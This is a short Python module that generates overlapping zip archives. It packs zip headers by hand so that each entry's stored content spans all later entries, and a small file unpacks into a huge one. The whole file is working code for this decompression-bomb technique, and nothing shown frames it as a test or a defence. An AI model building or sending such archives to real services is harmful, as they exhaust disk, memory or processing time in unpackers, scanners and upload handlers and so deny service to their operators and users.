"""Zip archives whose entries contain each other, so that a small file unpacks into a huge one."""

from __future__ import annotations

import struct
import zlib

_LOCAL = "<4sHHHHHIIIHH"
_CENTRAL = "<4sHHHHHHIIIHHHHHII"
_END = "<4sHHHHIIH"


def overlapping_archive(names: list[str], innermost: bytes) -> bytes:
    """Return an archive in which each entry's content is all entries after it."""
    data, made = innermost, []
    for name in reversed(names):
        sizes = (zlib.crc32(data), len(data), len(data), len(name), 0)
        made.append((name, sizes))
        data = struct.pack(_LOCAL, b"PK\x03\x04", 20, 0, 0, 0, 33, *sizes) + name.encode() + data
    listed, place = b"", 0
    for name, sizes in reversed(made):
        listed += struct.pack(
            _CENTRAL, b"PK\x01\x02", 20, 20, 0, 0, 0, 33, *sizes, 0, 0, 0, 0, place
        )
        listed += name.encode()
        place += struct.calcsize(_LOCAL) + len(name)
    count = len(names)
    end = struct.pack(_END, b"PK\x05\x06", 0, 0, count, count, len(listed), len(data), 0)
    return data + listed + end
